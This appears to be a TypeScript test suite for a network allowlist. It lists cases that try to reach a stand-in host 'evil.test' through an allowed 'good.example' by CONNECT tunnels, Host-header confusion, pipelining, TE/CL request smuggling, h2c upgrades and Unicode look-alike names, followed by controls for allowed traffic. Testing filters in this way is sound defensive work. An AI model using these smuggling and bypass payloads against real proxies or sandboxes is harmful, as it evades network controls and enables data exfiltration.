// HTTP to addresses that a name has opened: which name is asked for, and who understands it otherwise. The controls stand here, too.

import { type AttackCase, cases } from './case.ts'

/** Its address has been answered, and nothing else is known of it. */
const at = (run: string) => `[learn('good.example', 'other.example'), ${run}][-1]`

export const HTTP: AttackCase[] = [
  ...cases({ as: 'root', recorded: 'connection' }, [
    [
      'H-connect',
      'a tunnel by an allowed server',
      at(
        "http(GOOD, f'CONNECT {evil()}:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n'.encode(), data(), number=port())",
      ),
    ],
    [
      'H-connect-host',
      'a tunnel whose target is allowed',
      at(
        "http(GOOD, b'CONNECT good.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n', data(), number=port())",
      ),
    ],
    [
      'H-absolute',
      'another name in the target of the request',
      at("http(GOOD, get('good.example', 'http://evil.test/' + token()), number=port())"),
    ],
    [
      'H-absolute-host',
      'an allowed name in the target, another as Host',
      at("http(GOOD, get('evil.test', 'http://good.example/' + token()), number=port())"),
    ],
    [
      'H-absolute-port',
      'an absolute target at another scheme',
      at("http(GOOD, get('good.example', 'ftp://evil.test/' + token()), number=port())"),
    ],
    [
      'H-two-hosts',
      'two Hosts',
      at("http(GOOD, get('good.example', more='Host: evil.test\\r\\n'), number=port())"),
    ],
    [
      'H-no-host',
      'no Host',
      at("http(GOOD, f'GET /{token()} HTTP/1.1\\r\\n\\r\\n'.encode(), number=port())"),
    ],
    ['H-empty-host', 'an empty Host', at("http(GOOD, get(''), number=port())")],
    ['H-host-list', 'two names in one Host', at("http(GOOD, get('good.example, evil.test'), number=port())")],
    [
      'H-host-user',
      'a name before an @ in Host',
      at("http(GOOD, get('good.example@evil.test'), number=port())"),
    ],
    [
      'H-host-folded',
      'a Host that goes on in the next line',
      at("http(GOOD, get('good.example\\r\\n .evil.test'), number=port())"),
    ],
    [
      'H-host-space',
      'a blank before the colon',
      at(
        "http(GOOD, f'GET /{token()} HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: good.example\\r\\n\\r\\n'.encode(), number=port())",
      ),
    ],
    ['H-host-null', 'a zero in Host', at("http(GOOD, get('good.example\\0evil.test'), number=port())")],
    [
      'H-bare-lf',
      'lines that end by LF alone',
      at("http(GOOD, f'GET /{token()} HTTP/1.1\\nHost: good.example\\n\\n'.encode(), number=port())"),
    ],
    [
      'H-bare-cr',
      'a CR by itself within a line',
      at("http(GOOD, get('good.example', more='X: a\\rHost: evil.test\\r\\n'), number=port())"),
    ],
    ['H-http-09', 'a request of HTTP 0.9', at("http(GOOD, f'GET /{token()}\\r\\n'.encode(), number=port())")],
    [
      'H-http-10',
      'a request of HTTP/1.0 without Host',
      at("http(GOOD, f'GET /{token()} HTTP/1.0\\r\\n\\r\\n'.encode(), number=port())"),
    ],
    [
      'H-http-2',
      'HTTP/2 without TLS',
      at("http(GOOD, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', data(), number=port())"),
    ],
    ['H-keep-alive', 'another Host in the second request', at("keep_alive('good.example', 'evil.test')")],
    [
      'H-pipelined',
      'another Host in a request right behind',
      at("pipelined(get('good.example', '/'), get('evil.test'))"),
    ],
    [
      'H-pipelined-third',
      'another Host in the third one',
      at("pipelined(get('good.example', '/'), get('good.example', '/'), get('evil.test'))"),
    ],
    [
      'H-smuggle-te-cl',
      'both ways of saying where a body ends',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-smuggle-te-odd',
      'a transfer encoding that few understand',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-smuggle-two-lengths',
      'two lengths',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 0\\r\\nContent-Length: 5\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-smuggle-length-sign',
      'a length with a sign',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: +0\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-smuggle-chunk',
      'a chunk whose size is written oddly',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0x0\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-upgrade-refused',
      'an upgrade that the server refuses, then another Host',
      at(
        "pipelined(get('good.example', '/', more='Connection: upgrade\\r\\nUpgrade: websocket\\r\\n'), get('evil.test'))",
      ),
    ],
    [
      'H-upgrade-h2c',
      'an upgrade to HTTP/2 without TLS',
      at(
        "pipelined(get('good.example', '/', more='Connection: upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n'), b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + get('evil.test'))",
      ),
    ],
    [
      'H-expect',
      'a body that is another request, after "Expect: 100-continue"',
      at(
        "pipelined(b'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nExpect: 100-continue\\r\\nContent-Length: 0\\r\\n\\r\\n', get('evil.test'))",
      ),
    ],
    [
      'H-get-body',
      'a GET with a body, and another Host behind it',
      at(
        "pipelined(b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 3\\r\\n\\r\\nabc', get('evil.test'))",
      ),
    ],
    [
      'H-huge-head',
      'a head of 200,000 bytes',
      at("http(GOOD, get('good.example', more='X: ' + 'a' * 200000 + '\\r\\n'), number=port())"),
    ],
    [
      'H-trace-unicode',
      'a Host of letters that become others',
      at(
        "http(GOOD, 'GET / HTTP/1.1\\r\\nHost: good.ex\\u0430mple\\r\\n\\r\\n'.encode() + data(), number=port())",
      ),
    ],
    [
      'H-half-head',
      'half a request, and then nothing',
      at("tcp(GOOD, say=get('good.example')[:-2])"),
      { recorded: 'quiet' },
    ],
  ]),
  ...cases({ as: 'root', expect: 'allowed', recorded: 'quiet' }, [
    ['C-control-http', 'control: HTTP to an allowed name', at("http(GOOD, get('good.example'))")],
    [
      'C-control-http-other',
      'control: HTTP to another allowed name',
      at("http(OTHER, get('other.example'))"),
    ],
    [
      'C-control-keep-alive',
      'control: two requests on one connection',
      at("pipelined(get('good.example', '/'), get('good.example'), number=80)"),
    ],
    [
      'C-control-tls',
      'control: TLS to an allowed name',
      at("[tls(GOOD, 'good.example', request=get('good.example', '/')), http(GOOD, get('good.example'))][0]"),
    ],
    ['C-control-tunnel', 'control: a name of an allowed zone', "dns(token() + '.tun.example')"],
  ]),
]
